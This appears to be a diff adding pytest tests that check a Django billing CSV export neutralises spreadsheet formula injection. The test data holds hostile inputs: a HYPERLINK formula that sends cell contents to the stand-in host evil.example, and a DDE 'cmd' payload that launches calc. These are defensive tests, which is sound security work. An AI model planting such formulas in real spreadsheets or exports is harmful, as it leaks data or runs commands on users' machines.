@@ -1,0 +1,162 @@
+"""KMD's billing export: text a customer or account manager typed never reaches a spreadsheet as a formula,
+and the amounts our code computes stay numbers."""
+
+import csv
+import datetime
+import io
+from decimal import Decimal
+from pathlib import Path
+
+import pytest
+from django.urls import reverse
+from django.utils import timezone
+
+from billing import services as billing
+from billing.models import BillingRun, Invoice, InvoiceLine, RecurringFee
+
+D = Decimal
+HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Aarhus")'
+
+
+def export(client, user, run) -> list[dict]:
+    client.force_login(user)
+    response = client.get(reverse("billing:run_export", args=[run.pk]))
+    assert response.status_code == 200
+    return list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
+
+
+def test_formulas_typed_by_the_customer_and_the_account_manager_come_out_as_text(cast, order_in, client):
+    cast.customer_a.name = HYPERLINK
+    cast.customer_a.invoice_reference_person = "+45 Bente, Lønkontoret"
+    cast.customer_a.save()
+    order = order_in("active", requisition_number="@SUM(1+1)*cmd|' /C calc'!A0")
+    billing.consulting_record(
+        order=order, actor=cast.am_a, on=order.activated_on, hours=D("1"), description="=1+1 sparring"
+    )
+    run = billing.billing_run(period=timezone.localdate().replace(day=1))
+
+    rows = export(client, cast.am_a, run)
+
+    assert rows
+    for row in rows:
+        assert row["kunde"] == "'" + HYPERLINK
+        assert row["reference"] == "'+45 Bente, Lønkontoret"
+        assert row["rekvisition"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
+        assert not row["tekst"].startswith(("=", "+", "-", "@"))
+    assert any("=1+1 sparring" in row["tekst"] for row in rows)  # inside the text, where it cannot run
+
+
+def test_every_text_column_is_neutralised_whatever_it_starts_with(cast, order_in, client):
+    order = order_in("draft")
+    run = BillingRun.objects.create(period=datetime.date(2030, 1, 1))
+    typed = {
+        "faktura": "-2+3",
+        "kunde": "=1+1",
+        "cvr": "+4",
+        "ean": "@SUM(A1)",
+        "reference": "\t=1+1",
+        "rekvisition": "\r=1+1",
+        "type": "=kind",
+        "tekst": " =1+1",
+    }
+    invoice = Invoice.objects.create(
+        run=run,
+        customer=cast.customer_a,
+        period=run.period,
+        number=typed["faktura"],
+        customer_name=typed["kunde"],
+        cvr=typed["cvr"],
+        ean=typed["ean"],
+        reference_person=typed["reference"],
+        total_excl_vat=D("1.00"),
+        vat=D("0.25"),
+        total_incl_vat=D("1.25"),
+    )
+    InvoiceLine.objects.create(
+        invoice=invoice,
+        source_key="test:1",
+        kind=typed["type"],
+        order=order,
+        requisition_number=typed["rekvisition"],
+        description_da=typed["tekst"],
+        description_en="x",
+        amount=D("1.00"),
+    )
+
+    (row,) = export(client, cast.support, run)
+
+    for column, value in typed.items():
+        assert row[column] == "'" + value, column
+    assert row["bestilling"] == order.reference and row["beløb_ekskl_moms"] == "1,00"
+
+
+def test_credit_amounts_stay_negative_numbers_while_a_typed_minus_is_neutralised(cast, order_in, client):
+    order = order_in("draft", requisition_number="-5")
+    fee = RecurringFee.objects.create(
+        customer=cast.customer_a,
+        order=order,
+        kind=RecurringFee.Kind.PACKAGE,
+        description_da="Vagtplanpakke",
+        description_en="Rostering package",
+        monthly_fee=D("3100.00"),
+        starts_on=datetime.date(2026, 1, 1),
+    )
+    billing.billing_run(period=datetime.date(2026, 3, 1))
+    fee.ends_on = datetime.date(2026, 2, 15)  # ended retroactively: the next run credits February and March
+    fee.save()
+    run = billing.billing_run(period=datetime.date(2026, 4, 1))
+
+    rows = export(client, cast.am_a, run)
+
+    assert sorted(row["beløb_ekskl_moms"] for row in rows) == ["-1550,00", "-3100,00"]
+    assert all(row["rekvisition"] == "'-5" for row in rows)
+    assert all(row["tekst"].startswith("Kreditering: OA-") for row in rows)
+    assert {row["kunde"] for row in rows} == {"Aarhus Kommune"}
+
+
+@pytest.mark.parametrize(
+    ("typed", "written"),
+    [
+        ("=1+1", "'=1+1"),
+        ("+45 12 34 56 78", "'+45 12 34 56 78"),
+        ("-5", "'-5"),
+        ("@SUM(A1)", "'@SUM(A1)"),
+        ("\t=1+1", "'\t=1+1"),
+        ("\r=1+1", "'\r=1+1"),
+        # Blanks first do not make it safe: LibreOffice's "trim spaces" import strips them, then runs it.
+        (" =1+1", "' =1+1"),
+        ("\u00a0\n=1+1", "'\u00a0\n=1+1"),
+        ("REK-2026-17", "REK-2026-17"),
+        ("A=B", "A=B"),
+        ("Ærø Kommune", "Ærø Kommune"),
+        ("", ""),
+    ],
+)
+def test_one_text_cell(typed, written):
+    from config.exports import spreadsheet_text
+
+    assert spreadsheet_text(typed) == written
+
+
+def test_numbers_are_written_by_the_writer_and_never_prefixed():
+    from config.exports import spreadsheet_cell
+
+    assert spreadsheet_cell(D("-120.50")) == "-120,50"
+    assert spreadsheet_cell(D("1250.00")) == "1250,00"
+    assert spreadsheet_cell(3) == "3"
+    assert spreadsheet_cell(None) == ""
+    assert spreadsheet_cell("-120,50") == "'-120,50"  # the same characters, typed: text, so neutralised
+    with pytest.raises(TypeError):
+        spreadsheet_cell(1.5)
+
+
+def test_no_export_writes_csv_except_through_the_shared_writer():
+    root = Path(__file__).resolve().parents[2]
+    offenders = [
+        str(path.relative_to(root))
+        for path in root.rglob("*.py")
+        if not {".venv", "node_modules", "tests", "migrations"} & set(path.relative_to(root).parts)
+        and path.relative_to(root).as_posix() != "config/exports.py"
+        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter(", "openpyxl"))
+    ]
+    assert offenders == []
